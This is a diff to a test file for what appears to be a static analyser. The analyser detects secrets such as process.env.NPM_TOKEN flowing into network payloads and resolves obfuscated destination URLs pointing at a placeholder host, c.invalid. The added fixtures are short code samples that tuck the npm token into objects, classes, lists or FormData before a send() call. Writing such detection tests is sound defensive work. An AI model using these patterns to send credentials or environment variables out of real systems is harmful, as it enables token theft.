@@ -50,6 +50,17 @@ t.test('data of a source that reaches a sink is a flow, whatever way it takes', 
       'env process.env[…] -> network payload i.js:1',
     ],
     [`const a = []; a.push(process.env.NPM_TOKEN); ${send("a.join('')")}`, token],
+    // what somebody else made keeps what is put into it
+    [`const o = require('x')(); o.t = process.env.NPM_TOKEN; ${send('o.t')}`, token],
+    [`const o = require('x')(); o.a.t = process.env.NPM_TOKEN; ${send('JSON.stringify(o)')}`, token],
+    [`exports.f = o => { o.t = process.env.NPM_TOKEN; ${send('JSON.stringify(o)')} }`, token],
+    [
+      `class A { f(o) { this.o = o; this.o.t = process.env.NPM_TOKEN; ${send('this.o.t')} } } exports.A = A`,
+      token,
+    ],
+    [`const o = require('x')(); Object.assign(o, { t: process.env.NPM_TOKEN }); ${send('o.t')}`, token],
+    [`const F = require('x'), f = new F(); f.append('t', process.env.NPM_TOKEN); ${send('f')}`, token],
+    [`const l = require('x')(); l.push(process.env.NPM_TOKEN); ${send('l.join()')}`, token],
     [send("Object.entries(process.env).map(([k, v]) => k + '=' + v).join()"), env],
     [`const m = new Map(); m.set('t', process.env.NPM_TOKEN); ${send("m.get('t')")}`, token],
     [`const d = new FormData(); d.append('t', process.env.NPM_TOKEN); ${send('d')}`, token],
@@ -644,6 +655,16 @@ t.test('an address that is tidied up before it is used is still known', t => {
     ["'https://c.invalid'.replace(new RegExp(process.env.P), '')", [`${HOLE}/x`]],
     // What a function gives is only known when it runs.
     ["'https://c.invalid'.replace(/c/, () => process.title)", [`${HOLE}/x`]],
+    ["'https://X.invalid'.replace('X', () => 'c')", ['https://c.invalid/x']],
+    ["'https://X.invalid'.replace(new RegExp('x', 'i'), 'c')", ['https://c.invalid/x']],
+    ["'u=https://c.invalid;'.match(/u=([^;]+)/)[1]", ['https://c.invalid/x']],
+    ["/u=([^;]+)/.exec('u=https://c.invalid;')[1]", ['https://c.invalid/x']],
+    ["require('util').format('%s://%s', 'https', 'c.invalid')", ['https://c.invalid/x']],
+    ["require('url').format({ protocol: 'https', host: 'c.invalid' })", [`${HOLE}/x`, 'https://c.invalid/x']],
+    ['String.raw`https://${"c.invalid"}`', ['https://c.invalid/x']],
+    ["JSON.parse(JSON.stringify({ u: 'https://c.invalid' })).u", ['https://c.invalid/x']],
+    ["require('lodash').get({ a: [{ u: 'https://c.invalid' }] }, 'a[0].u')", ['https://c.invalid/x']],
+    ["new Proxy({}, { get: () => 'https://c.invalid' }).u", [`${HOLE}/x`, 'https://c.invalid/x']],
   ]
   for (const [text, destinations] of rows) {
     const { facts } = analyse({ 'i.js': tidied(text) })
